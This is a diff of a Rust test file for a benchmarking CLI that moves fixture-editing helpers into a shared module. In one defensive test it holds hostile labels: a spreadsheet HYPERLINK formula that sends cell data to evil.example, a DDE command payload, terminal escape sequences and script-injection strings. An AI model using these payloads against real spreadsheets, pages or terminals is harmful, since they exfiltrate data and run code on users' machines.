@@ -13,40 +13,10 @@ use predicates::prelude::*;
 const QUICK: &str = "[settings]\ntrial_s = 0\nmin_measured_s = 0\nwarmup_s = 0\nwarmup_ops = 1\ntrials = 2\nmax_trials = 2\nops = 4\nchecks = 2\n\
     [[sweep]]\nworkload = \"linear\"\nstrategy = \"threads\"\nn = [1, 2]\n";
 
-fn run_json(dir: &Path) -> serde_json::Value {
-    serde_json::from_str(&std::fs::read_to_string(dir.join("run.json")).unwrap()).unwrap()
-}
-
-fn set_run_json(dir: &Path, edit: impl Fn(&mut serde_json::Value)) {
-    let mut info = run_json(dir);
-    edit(&mut info);
-    std::fs::write(dir.join("run.json"), info.to_string()).unwrap();
-}
-
 fn resume(dir: &Path) -> assert_cmd::assert::Assert {
     common::curves()
         .args(["run", "--resume", dir.to_str().unwrap(), "--quiet"])
         .assert()
-}
-
-/// A copy of the lavapipe fixture with each point edited.
-fn edited_fixture(dir: &Path, edit: impl Fn(usize, &mut serde_json::Value)) -> PathBuf {
-    let src = common::fixture("run-lavapipe");
-    std::fs::create_dir_all(dir).unwrap();
-    std::fs::copy(src.join("run.json"), dir.join("run.json")).unwrap();
-    let mut out = String::new();
-    for (i, line) in std::fs::read_to_string(src.join("points.jsonl"))
-        .unwrap()
-        .lines()
-        .enumerate()
-    {
-        let mut v: serde_json::Value = serde_json::from_str(line).unwrap();
-        edit(i, &mut v);
-        out.push_str(&v.to_string());
-        out.push('\n');
-    }
-    std::fs::write(dir.join("points.jsonl"), out).unwrap();
-    dir.to_path_buf()
 }
 
 #[test]
@@ -64,7 +34,7 @@ fn a_resume_refuses_what_it_would_not_finish_and_a_second_writer() {
         .code(2)
         .stderr(predicate::str::contains("nothing is left to measure"));
     let text = run.info.experiment_text.clone();
-    set_run_json(&dir, |v| {
+    common::edit_run_json(&dir, |v| {
         v["finished_at"] = serde_json::Value::Null;
         v["interrupted"] = "a signal (SIGINT or SIGTERM)".into();
     });
@@ -86,13 +56,13 @@ fn a_resume_refuses_what_it_would_not_finish_and_a_second_writer() {
     }
 
     // An experiment text edited since: its points are not the run's.
-    set_run_json(&dir, |v| {
+    common::edit_run_json(&dir, |v| {
         v["experiment_text"] = text.replace("n = [1, 2]", "n = [4]").into();
     });
     resume(&dir).code(2).stderr(predicate::str::contains(
         "not points of the run's experiment",
     ));
-    set_run_json(&dir, |v| v["experiment_text"] = text.clone().into());
+    common::edit_run_json(&dir, |v| v["experiment_text"] = text.clone().into());
 
     // Another writer holds the directory: refused, naming it.
     let held = curves::runner::WriterLock::take(&dir).unwrap();
@@ -106,19 +76,19 @@ fn a_resume_refuses_what_it_would_not_finish_and_a_second_writer() {
 
     // Recorded on another adapter (an H200 run copied here): refused,
     // never finished on this machine's adapter.
-    let recorded = run_json(&dir)["adapter"].clone();
-    set_run_json(&dir, |v| {
+    let recorded = common::run_json(&dir)["adapter"].clone();
+    common::edit_run_json(&dir, |v| {
         v["adapter"]["name"] = "NVIDIA H200".into();
         v["adapter"]["driver_info"] = "580.159.04".into();
     });
     resume(&dir).code(2).stderr(predicate::str::contains(
         "the run was measured on NVIDIA H200",
     ));
-    set_run_json(&dir, |v| v["adapter"] = recorded.clone());
+    common::edit_run_json(&dir, |v| v["adapter"] = recorded.clone());
 
     // Free again, the interrupted run finishes (nothing was missing).
     resume(&dir).success();
-    let info = run_json(&dir);
+    let info = common::run_json(&dir);
     assert!(info["finished_at"].is_string() && info["interrupted"].is_null());
     assert_eq!(curves::store::Run::load(&dir).unwrap().points.len(), 2);
 
@@ -205,7 +175,7 @@ fn a_worker_started_by_hand_says_so_and_exits_2() {
 #[test]
 fn runs_that_share_no_point_are_a_usage_error() {
     let dir = tempfile::tempdir().unwrap();
-    let other = edited_fixture(&dir.path().join("other"), |_, v| {
+    let other = common::edited_copy("run-lavapipe", &dir.path().join("other"), |_, v| {
         v["n"] = 999.into();
     });
     common::curves()
@@ -220,7 +190,7 @@ fn runs_that_share_no_point_are_a_usage_error() {
 #[test]
 fn impossible_figures_are_marked_invalid_by_name() {
     let dir = tempfile::tempdir().unwrap();
-    let run = edited_fixture(&dir.path().join("run"), |i, v| match i {
+    let run = common::edited_copy("run-lavapipe", dir.path(), |i, v| match i {
         0 => v["samples_per_s"] = (-5.0).into(),
         1 => v["ops_wrong"] = 1_000_000_000_000u64.into(),
         2 => v["samples_per_s_trials"] = serde_json::json!([]),
@@ -251,14 +221,14 @@ fn impossible_figures_are_marked_invalid_by_name() {
 fn hostile_text_never_runs_in_a_spreadsheet_a_page_or_a_terminal() {
     let dir = tempfile::tempdir().unwrap();
     let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
-    let run = edited_fixture(&dir.path().join("run"), |i, v| {
+    let run = common::edited_copy("run-lavapipe", dir.path(), |i, v| {
         v["label"] = match i % 3 {
             0 => formula.into(),
             1 => "@SUM(1+1)*cmd|' /C calc'!A0".into(),
             _ => "\u{1b}]0;owned\u{7}<img src=x onerror=alert(1)>".into(),
         };
     });
-    set_run_json(&run, |v| {
+    common::edit_run_json(&run, |v| {
         v["run_id"] = "a\nb\tc\u{1b}[31m".into();
         v["adapter"]["name"] = "<script>alert(1)</script>".into();
     });
